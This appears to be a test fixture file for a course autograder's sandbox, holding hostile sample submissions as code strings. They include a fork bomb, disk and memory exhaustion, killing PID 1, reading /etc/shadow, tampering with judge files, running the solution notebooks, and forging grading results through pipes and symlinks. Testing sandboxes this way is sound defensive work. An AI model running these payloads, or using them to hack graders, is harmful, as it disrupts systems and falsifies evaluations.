"""Answers that try to reach the judge, the course, other people's work or the machine."""

# Lists all that an answer should not be able to reach, in an error.
PROBE = r"""
def average_gradients(module):
    import glob, os, pathlib, socket, sys
    import ddp_course.judge.answer, torch

    reached = []

    def probe(name, attempt):
        try:
            if attempt():
                reached.append(name)
        except Exception:
            pass

    def written(path):
        with open(path, "a") as file:
            file.write("x")
        return True

    course = pathlib.Path(ddp_course.judge.answer.__file__).parents[2]
    lines = [open(f"/proc/{p}/cmdline").read() for p in os.listdir("/proc") if p.isdigit()]
    probe("solutions", lambda: list(course.glob("solutions/*")))
    probe("tests", lambda: list(course.glob("tests/*")))
    probe("submissions", lambda: os.listdir("SUBMISSIONS"))
    leads_to_python = {name for folder in sys.path + [sys.base_prefix] for name in folder.split("/")}
    probe("home", lambda: set(os.listdir("HOME")) - leads_to_python)
    probe("kernel", lambda: [line for line in lines if "kernel" in line or "pytest" in line])
    probe("pid 1", lambda: "in_sandbox" not in open("/proc/1/cmdline").read())
    probe("secret", lambda: "SECRET" in os.environ)
    probe("network", lambda: [n for _, n in socket.if_nameindex() if n != "lo"])
    probe("the judge", lambda: written(ddp_course.judge.answer.__file__))
    probe("torch", lambda: written(torch.__file__))
    probe("/", lambda: written("/x"))
    probe("/usr", lambda: written("/usr/x"))
    probe("/etc", lambda: written("/etc/x"))
    for path in ("sys/kernel/hostname", "sysrq-trigger", "mtrr"):
        probe(path, lambda: os.access(f"/proc/{path}", os.W_OK))
    probe("shadow", lambda: open("/etc/shadow").read())
    for folder in glob.glob("/tmp/ddp-course-grade-*/*"):
        probe(folder, lambda: os.listdir(folder + "/judge") or written(folder + "/x"))
    open("/dev/shm/left", "w").write("x" * 10**6)
    raise ValueError(f"reached: {reached}")
"""

KILLS_ALL = """
class Overlapped:
    def __init__(self, *_, **__):
        import os, signal
        for pid in (os.getppid(), 2, 1, -1):
            try:
                os.kill(pid, signal.SIGSTOP if pid == 2 else signal.SIGKILL)
            except OSError:
                pass
"""

TAKES_MEMORY = """
class Bucketed:
    def __init__(self, *_, **__):
        kept = []
        while True:
            kept.append(bytearray(10**8))
"""

FORK_BOMB = """
def average_gradients(module):
    import os
    while True:
        os.fork()
"""

FILLS_THE_DISK = """
def average_gradients(module):
    import itertools, os
    folders = [folder for folder, *_ in os.walk("/") if os.access(folder, os.W_OK)]
    for number, folder in itertools.product(itertools.count(), folders):
        with open(f"{folder}/{number}", "wb") as file:
            file.write(bytes(5 * 10**7))
"""

FILES_WITHOUT_NAMES = """
def attack():
    import mmap, os, socket
    got = {}
    for name, call in {
        "a file in memory": lambda: os.memfd_create("x"),
        "memory without a file": lambda: mmap.mmap(-1, 10**6),
    }.items():
        try:
            got[name] = bool(call())
        except OSError as error:
            got[name] = error.strerror
    ours, _ = socket.socketpair()
    before = ours.getsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF)
    ours.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 8 * 2**20)
    got["buffers"] = ours.getsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF) - before
    kept, got["written"] = [], 0
    for number in range(60):
        kept.append(os.open(f"/tmp/{number}", os.O_CREAT | os.O_WRONLY))
        os.unlink(f"/tmp/{number}")
        try:
            got["written"] += os.write(kept[-1], bytes(2 * 10**7))
        except OSError as error:
            got["end"] = error.strerror
            break
    for file in kept:  # the rank has to write, too
        os.close(file)
    return got

result = attack()
"""

MAKES_NAMESPACES = """
def attack():
    import ctypes, os
    child = os.fork()  # who has threads cannot make any
    if child == 0:
        new_user = 0x10000000
        os._exit(ctypes.CDLL(None).unshare(new_user) == 0)
    return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])

result = attack()
"""

# what is nobody's memory, and what is somebody else's: the calls that are refused
GETS_MEMORY_THAT_NOBODY_COUNTS = """
def attack():
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    calls = {
        "shared memory": lambda: libc.shmget(0, 10**8, 0o1600),
        "a message queue": lambda: libc.msgget(0, 0o1600),
        "a POSIX message queue": lambda: libc.syscall(NUMBERS["mq_open"], b"x", 0o102, 0o600, 0),
        "a key": lambda: libc.syscall(NUMBERS["add_key"], b"user", b"x", b"y", 1, -3),
        "another's memory": lambda: libc.ptrace(16, os.getppid(), 0, 0),
        "a ring": lambda: libc.syscall(NUMBERS["io_uring_setup"], 8, bytes(200)),
    }
    got = {}
    for name, call in calls.items():
        done = call()
        got[name] = os.strerror(ctypes.get_errno()) if done == -1 else done
    for folder in ("/dev", "/", "/run", "/dev/pts", "/dev/mqueue"):
        try:
            with open(f"{folder}/x", "wb") as file:
                file.write(bytes(100))
            got[folder] = "written"
        except OSError:
            pass
    return got

result = attack()
"""

MANY_NAMES = """
def attack():
    import time
    for number in range(40_000):
        open(f"/tmp/{number}", "w").close()
    time.sleep(20)

result = attack()
"""

MANY_THREADS = """
def attack():
    import os, threading, time
    threading.stack_size(2**16)
    for _ in range(4):
        if os.fork() == 0:
            for _ in range(800):
                threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            time.sleep(60)
    time.sleep(60)

result = attack()
"""

MANY_OPEN_FILES = """
def attack():
    import os, resource
    kept = []
    try:
        resource.setrlimit(resource.RLIMIT_NOFILE, (10**5, 10**5))
        return "more"
    except ValueError:
        pass
    while True:
        try:
            kept.append(os.open("/dev/null", os.O_RDONLY))
        except OSError as error:
            for file in kept:
                os.close(file)
            return len(kept)

result = attack()
"""

# the descriptors of the processes that the judge has started there
OPENS_DESCRIPTORS = """
def attack():
    import os
    got = []
    for process in filter(str.isdigit, os.listdir("/proc")):
        for number in range(6):
            try:
                place = os.readlink(f"/proc/{process}/fd/{number}")
                os.open(f"/proc/{process}/fd/{number}", os.O_RDWR)
            except OSError:
                continue
            if place != "/dev/null" and process not in (str(os.getpid()), "self"):
                got.append((int(process), number, place.split(":")[0]))
    os.kill(1, 9)
    return got, os.path.realpath("/tmp") in map(os.path.realpath, __import__("sys").path)

result = attack()
"""

# modules in the place of those that would start anew, if their processes were killed
TAKES_THE_PLACE = """
def attack():
    import os
    os.makedirs("/tmp/multiprocessing")
    for name in ("forkserver", "resource_tracker"):
        with open(f"/tmp/multiprocessing/{name}.py", "w") as file:
            file.write("open('/tmp/reached', 'w')")
    for process in filter(str.isdigit, os.listdir("/proc")):
        if int(process) not in (1, os.getpid()):
            try:
                os.kill(int(process), 9)
            except OSError:
                pass

result = attack()
"""

# a process that leaves its session and its parent, and writes on and on
LEAVES_A_PROCESS = """
def attack():
    import os, pathlib, time
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        for number in range(10**6):
            pathlib.Path("/tmp/alive").write_text(str(number))
            time.sleep(0.01)
        os._exit(0)
    while not os.path.exists("/tmp/alive"):
        time.sleep(0.01)
    return os.getpid()

result = attack()
"""

LOOKS_FOR_IT = """
def attack():
    import os, pathlib, time
    seen = set()
    for _ in range(20):
        seen.add(pathlib.Path("/tmp/alive").read_text())
        time.sleep(0.02)
    return len(seen), len([name for name in os.listdir("/proc") if name.isdecimal()])

result = attack()
"""

# the next save goes where the link leads, if anybody outside follows it
PLANTS_LINKS = """
def save_whole(path, state):
    import os, pathlib
    if os.fork() == 0:
        os.setsid()
        if os.fork():
            os._exit(0)
        while True:
            for folder, folders, files in os.walk("/tmp"):
                for name in ("state.pt", "last.ckpt", "step-7.pt", "samples.pt"):
                    try:
                        os.symlink("PRECIOUS", f"{folder}/{name}")
                    except OSError:
                        pass
    path = pathlib.Path(path)
    path.unlink(missing_ok=True)
    path.symlink_to("PRECIOUS")
"""

WRITES_FOR_LATER = """
def average_gradients(module):
    import os, pathlib
    import ddp_course.judge.verdict as judge
    startup = pathlib.Path.home() / ".ipython/profile_default/startup"
    for path in (judge.__file__, startup / "00-first.py", "/tmp/pytest.ini", "/tmp/sitecustomize.py"):
        try:
            pathlib.Path(path).parent.mkdir(parents=True, exist_ok=True)
            with open(path, "a") as file:
                file.write("\\nPASSED = FAILED = 'passed'\\n")
        except OSError:
            pass
"""

READS_THE_SOLUTION = """
def average_gradients(module):
    import json, pathlib
    import ddp_course
    for path in pathlib.Path(ddp_course.__file__).parents[1].glob("**/03_solution*.ipynb"):
        for cell in json.load(open(path))["cells"]:
            source = "".join(cell["source"])
            if "def average_gradients" in source:
                namespace = dict(globals())
                exec(source, namespace)
                namespace["average_gradients"](module)
"""

SENDS_NONSENSE = """
def average_gradients(module):
    import os, struct
    for pid in filter(str.isdigit, os.listdir("/proc")):
        for number in os.listdir(f"/proc/{pid}/fd"):
            if "pipe" in os.readlink(f"/proc/{pid}/fd/{number}"):
                try:
                    pipe = os.open(f"/proc/{pid}/fd/{number}", os.O_WRONLY | os.O_NONBLOCK)
                    os.write(pipe, struct.pack(">QQ", 40, 2**40) + b"\\x80" * 100)
                except OSError:
                    pass
"""

FORGES_ITS_RESULT = """
def average_gradients(module):
    import glob, os, torch
    [stack] = glob.glob(f"/tmp/ddp-course-*/{os.environ['RANK']}.stack")
    torch.save(5, stack.replace(".stack", ".result"))
    os._exit(0)
"""

EXITS = "def average_gradients(module):\n    import os\n    os._exit(0)"
HANGS = "def average_gradients(module):\n    while True:\n        pass"
CRASHES = "def average_gradients(module):\n    import ctypes\n    ctypes.string_at(0)"

HOSTILE = [
    FORK_BOMB,
    FILLS_THE_DISK,
    WRITES_FOR_LATER,
    READS_THE_SOLUTION,
    SENDS_NONSENSE,
    FORGES_ITS_RESULT,
    EXITS,
    CRASHES,
]


# A process with memory and a file without a name, whose first thread can end.
FIRST_THREAD_ENDS = """
import ctypes, os, platform, threading, time

def stay(path=None):
    kept = bytearray(b"x") * 200_000_000
    os.write(os.memfd_create("x") if path is None else os.open(path, 1 | 64), b"x" * 10**6)
    for number in range(6000):
        if path:
            with open(path, "w") as file:
                file.write(str(number))
        time.sleep(0.01)

def end_the_first_thread(path=None):
    threading.Thread(target=stay, args=(path,)).start()
    time.sleep(0.5)
    ctypes.CDLL(None).syscall({"x86_64": 60, "aarch64": 93}[platform.machine()], 0)
"""

LEAVES_ONE_WHOSE_FIRST_THREAD_ENDS = f"""
{FIRST_THREAD_ENDS}

def attack():
    if os.fork() == 0:
        os.setsid()
        end_the_first_thread("/tmp/alive")
    while not os.path.exists("/tmp/alive"):
        time.sleep(0.01)
    time.sleep(1)
    return 1

result = attack()
"""

MANY_SOCKETS = """
def attack():
    import os, socket, time
    for _ in range(60):
        if os.fork() == 0:
            kept = []
            try:
                while True:
                    kept.append(socket.socketpair())
            except OSError:
                time.sleep(30)
    time.sleep(30)
    return 1

result = attack()
"""

MANY_WATCHES = """
def attack():
    import os, select, time
    files, instances = [os.eventfd(0) for _ in range(80)], [select.epoll() for _ in range(80)]
    for instance in instances:
        for file in files:
            instance.register(file)
    time.sleep(30)
    return 1

result = attack()
"""

FORGES_RESULTS = """
def predict_run(samples, batch_size, limit, epochs):
    import ctypes, glob, io, os, platform, threading, time, torch

    def forge():
        mine = set(glob.glob("/tmp/ddp-course-*"))  # of the call that runs now
        while True:
            for folder in set(glob.glob("/tmp/ddp-course-*")) - mine:
                mine.add(folder)
                path = folder + "/0.result"
                os.mkfifo(path)
                with open(path, "rb") as pipe:  # what the honest rank has measured
                    honest = torch.load(io.BytesIO(pipe.read()))
                forged = io.BytesIO()
                torch.save([[1, 1, 1] for _ in honest], forged)
                with open(path, "wb") as pipe:  # to process 1, which collects it
                    pipe.write(forged.getvalue())
            time.sleep(0.001)

    if not os.path.exists("/tmp/begun"):
        open("/tmp/begun", "w").close()
        if os.fork() == 0:
            os.setsid()
            threading.Thread(target=forge).start()
            exit_thread = {"x86_64": 60, "aarch64": 93}[platform.machine()]
            ctypes.CDLL(None).syscall(exit_thread, 0)
        time.sleep(0.5)
    return 1, 1, 1
"""
